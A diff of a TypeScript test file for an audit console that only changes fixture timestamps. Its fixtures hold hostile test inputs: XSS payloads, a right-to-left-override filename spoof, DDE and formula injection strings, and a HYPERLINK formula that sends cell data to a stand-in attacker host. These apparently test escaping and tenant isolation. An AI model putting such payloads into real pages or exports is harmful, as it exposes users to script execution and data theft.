@@ -33,9 +33,9 @@ const verifyToken: ConsoleOptions['verifyToken'] = async (t) => {
 const HOSTILE_TOOLS = ['<script>alert(1)</script>', '"><svg onload=alert(2)>', '\u202egnp.exe', `=HYPERLINK("http://evil.example/?"&A1)`];
 const now = Date.now();
 const acme = (over: Partial<AuditRecord>): AuditRecord =>
-  makeAudit({ principalChain: [{ kind: 'user', id: 'u', tenant_id: 'acme' }], startedAt: now - 3_600_000, ...over });
+  makeAudit({ principalChain: [{ kind: 'user', id: 'u', tenant_id: 'acme' }], startedAt: now - 1_800_000, ...over });
 const globex = (over: Partial<AuditRecord>): AuditRecord =>
-  makeAudit({ principalChain: [{ kind: 'user', id: 'g', tenant_id: 'globex' }], startedAt: now - 3_600_000, ...over });
+  makeAudit({ principalChain: [{ kind: 'user', id: 'g', tenant_id: 'globex' }], startedAt: now - 1_800_000, ...over });
 
 let store: Store;
 let served: ServedConsole | undefined;
@@ -50,7 +50,7 @@ beforeAll(async () => {
         category: i % 4 === 0 ? (i % 8 === 0 ? 'timeout' : 'internal') : null,
         errorCode: i % 4 === 0 ? '+cmd|/C calc' : null,
         sessionId: i % 2 ? '@SUM(1+1)' : '-2+3',
-        startedAt: now - 3_600_000 + i * 60_000,
+        startedAt: now - 1_800_000 + i * 30_000,
         latencyMs: i * 3,
       }),
       globex({ tool: 'globex.secret', sessionId: '-2+3', status: 'error', category: 'timeout', errorCode: 'globex-only' }),
